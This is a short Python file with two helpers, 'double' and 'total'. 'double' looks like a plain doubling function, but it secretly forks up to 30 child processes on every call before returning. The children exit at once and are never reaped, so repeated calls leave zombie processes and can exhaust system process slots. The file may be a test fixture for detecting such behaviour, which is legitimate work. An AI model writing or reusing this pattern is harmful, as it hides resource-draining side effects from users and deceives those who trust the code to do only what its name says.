import os


def double(x):
    for _ in range(30):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    return x * 2

def total(x):
    return x.sum()
